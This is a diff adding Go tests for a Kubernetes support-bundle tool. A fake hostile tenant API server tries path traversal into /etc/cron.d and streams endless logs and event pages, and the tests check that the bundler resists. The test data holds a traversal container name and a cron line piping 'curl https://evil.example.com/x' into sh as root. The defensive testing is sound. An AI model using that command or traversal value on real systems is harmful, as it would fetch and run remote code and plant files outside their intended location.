@@ -7,13 +7,18 @@ import (
 	"archive/tar"
 	"bytes"
 	"compress/gzip"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
+	"maps"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
 	"os"
+	"path"
 	"path/filepath"
 	"slices"
 	"strconv"
@@ -27,6 +32,9 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/cli-runtime/pkg/genericclioptions"
 	"k8s.io/cli-runtime/pkg/genericiooptions"
+	"k8s.io/client-go/rest"
+	"k8s.io/client-go/tools/clientcmd"
+	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	"github.com/karpenter-provider-metal3/karpenter-provider-metal3/cmd/kubectl-metal3/internal/view"
@@ -351,4 +359,102 @@ func TestSupportBundle(t *testing.T) {
 			t.Errorf("there are %v, %v", written, err)
 		}
 	})
+}
+
+// TestBundleOfALiar: the API server of a tenant is the tenant's. It names a container as a path, a log has no end, and neither have its
+// pages of events.
+func TestBundleOfALiar(t *testing.T) {
+	e := env.NewEnvironment(t)
+	transport, err := rest.TransportFor(e.Config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	backend, err := url.Parse(e.Config.Host)
+	if err != nil || backend.Host == "" {
+		backend = &url.URL{Scheme: "https", Host: e.Config.Host}
+	}
+	proxy := httputil.NewSingleHostReverseProxy(backend)
+	proxy.Transport = transport
+	const evil = "x/../../../../../../../../etc/cron.d/evil"
+	answer := func(w http.ResponseWriter, list any) {
+		w.Header().Set("Content-Type", "application/json")
+		_ = json.NewEncoder(w).Encode(list) // the reader may have gone
+	}
+	line := []byte(strings.Repeat("* * * * * root curl https://evil.example.com/x | sh\n", 1000))
+	pages := 0
+	liar := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case strings.HasSuffix(r.URL.Path, "/log"):
+			for r.Context().Err() == nil {
+				if _, err := w.Write(line); err != nil {
+					return
+				}
+			}
+		case r.URL.Path == "/api/v1/pods" && strings.Contains(r.URL.RawQuery, "part-of"):
+			pods := corev1.PodList{TypeMeta: metav1.TypeMeta{Kind: "PodList", APIVersion: "v1"}}
+			for name, container := range map[string]string{"p": evil, "..": "x"} { // client-go asks for no log of the second
+				pod := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: name}}
+				pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: container}}
+				pods.Items = append(pods.Items, pod)
+			}
+			answer(w, pods)
+		case r.URL.Path == "/api/v1/events":
+			pages++
+			event := corev1.Event{InvolvedObject: corev1.ObjectReference{APIVersion: "karpenter.sh/v1"}, Message: strings.Repeat("x", 1<<20)}
+			answer(w, corev1.EventList{TypeMeta: metav1.TypeMeta{Kind: "EventList", APIVersion: "v1"}, ListMeta: metav1.ListMeta{Continue: "more"},
+				Items: []corev1.Event{event}})
+		default:
+			r.Header.Del("Accept-Encoding")
+			proxy.ServeHTTP(w, r)
+		}
+	}))
+	defer liar.Close()
+	kubeconfig := filepath.Join(t.TempDir(), "liar")
+	config := clientcmdapi.NewConfig()
+	config.Clusters["c"] = &clientcmdapi.Cluster{Server: liar.URL}
+	config.AuthInfos["u"] = &clientcmdapi.AuthInfo{Token: "x"}
+	config.Contexts["c"], config.CurrentContext = &clientcmdapi.Context{Cluster: "c", AuthInfo: "u"}, "c"
+	if err := clientcmd.WriteToFile(*config, kubeconfig); err != nil {
+		t.Fatal(err)
+	}
+	files, _ := bundleOf(t, "--kubeconfig", e.Kubeconfig(t, ""), "--tenant-kubeconfig", kubeconfig)
+	logs := 0
+	for name, content := range files {
+		if !filepath.IsLocal(name) || path.Clean(name) != name || strings.Count(name, "/") > 2 || strings.Contains(name, "etc/") {
+			t.Errorf("member %q", name)
+		}
+		if strings.Contains(name, "/logs/") {
+			logs++
+			if len(content) > maxLog {
+				t.Errorf("the log %s has %d bytes", name, len(content))
+			}
+		}
+	}
+	if logs != 1 || pages > maxEvents>>20+2 {
+		t.Errorf("%d logs of 1, and %d pages of events: %v", logs, pages, slices.Sorted(maps.Keys(files)))
+	}
+	if readme := files["README.txt"]; !strings.Contains(readme, "the other events in the tenant cluster: the first ") {
+		t.Errorf("README.txt does not say that events are missing: %s", readme)
+	}
+}
+
+// TestBoundAnswers: an answer that does not end is an error, and a watch may last.
+func TestBoundAnswers(t *testing.T) {
+	const most = 1 << 20
+	endless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		_, _ = w.Write(make([]byte, 2*most)) // the reader may have gone
+	}))
+	defer endless.Close()
+	client := &http.Client{Transport: boundAnswers{http.DefaultTransport, most}}
+	for query, want := range map[string]int64{"": most, "?watch=true": 2 * most} {
+		response, err := client.Get(endless.URL + query)
+		if err != nil {
+			t.Fatal(err)
+		}
+		read, err := io.Copy(io.Discard, response.Body)
+		response.Body.Close()
+		if read != want || (err != nil) != (query == "") {
+			t.Errorf("%q: %d bytes, %v", query, read, err)
+		}
+	}
 }
